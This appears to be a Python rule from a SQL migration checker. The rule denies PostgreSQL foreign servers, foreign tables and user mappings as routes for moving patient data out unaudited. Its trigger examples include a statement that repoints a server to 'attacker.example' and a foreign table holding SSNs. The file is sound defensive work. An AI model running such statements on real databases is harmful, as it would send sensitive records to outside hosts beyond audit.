"""SO606: foreign servers, foreign tables and user mappings reach other systems from SQL."""

from __future__ import annotations

from collections.abc import Iterator

from runner.plan.commands import words
from runner.plan.model import Category, Severity
from runner.plan.rules.base import Context, StatementView, rule

_FORMS: tuple[tuple[tuple[str, ...], str], ...] = (
    (("CREATE", "SERVER"), "creates a foreign server"),
    (("ALTER", "SERVER"), "changes a foreign server's connection"),
    (("CREATE", "FOREIGN", "TABLE"), "creates a foreign table"),
    (("CREATE", "FOREIGN", "DATA", "WRAPPER"), "creates a foreign-data wrapper"),
    (("ALTER", "FOREIGN", "DATA", "WRAPPER"), "changes a foreign-data wrapper"),
    (("IMPORT", "FOREIGN", "SCHEMA"), "imports a remote schema as foreign tables"),
    (("CREATE", "USER", "MAPPING"), "stores credentials for a foreign server (user mapping)"),
    (("ALTER", "USER", "MAPPING"), "changes stored credentials for a foreign server"),
)
# Every form's second word: most CREATE / ALTER statements are answered by it,
# before their words are built (this rule is asked of every statement).
_SECOND_WORDS = frozenset(prefix[1] for prefix, _ in _FORMS)


@rule(
    "SO606",
    "foreign-data",
    Category.ESCAPE_HATCH,
    Severity.ERROR,
    summary="CREATE SERVER / FOREIGN TABLE / USER MAPPING, IMPORT FOREIGN SCHEMA: links out.",
    rationale="""
        A foreign server and a user mapping make the database connect out, with
        stored credentials, to another PostgreSQL, a file (file_fdw reads server
        files and, with program, runs commands) or any system a wrapper speaks
        to; a foreign table then reads and writes it as if it were local.
        INSERT INTO a foreign table copies PHI out of the database in a
        statement that looks like any insert, and what happens on the other end
        is outside the gateway's audit. Denied by default.
    """,
    safer="""
        Move data between systems through reviewed exports and imports that the
        gateway (or the other system's own controls) sees, not through a link
        created by a migration.
    """,
    triggers=[
        "CREATE SERVER archive FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host '10.0.0.5')",
        "CREATE FOREIGN TABLE remote_patients (id int, ssn text) SERVER archive",
        "IMPORT FOREIGN SCHEMA public FROM SERVER archive INTO staging",
        "CREATE USER MAPPING FOR app SERVER archive OPTIONS (user 'postgres', password 'x')",
        "ALTER SERVER archive OPTIONS (SET host 'attacker.example')",
    ],
    passes=[
        "CREATE USER auditor",
        "ALTER USER app SET statement_timeout = '5s'",
        "CREATE TABLE servers (id int, name text)",
    ],
)
def foreign_data(view: StatementView, context: Context) -> Iterator[str]:
    tokens = view.raw.tokens
    if not tokens or tokens[0].text.upper() not in ("CREATE", "ALTER", "IMPORT"):
        return  # asked of every statement: most are answered by their first word
    if len(tokens) < 2 or tokens[1].text.upper() not in _SECOND_WORDS:
        return  # (a quoted name is never one of the forms' keywords: not passed here either)
    ws = [w.text for w in words(tokens[:4])]
    for prefix, what in _FORMS:
        if ws[: len(prefix)] == list(prefix):
            yield f"{what}: data reaches another system outside the gateway's view"
            return
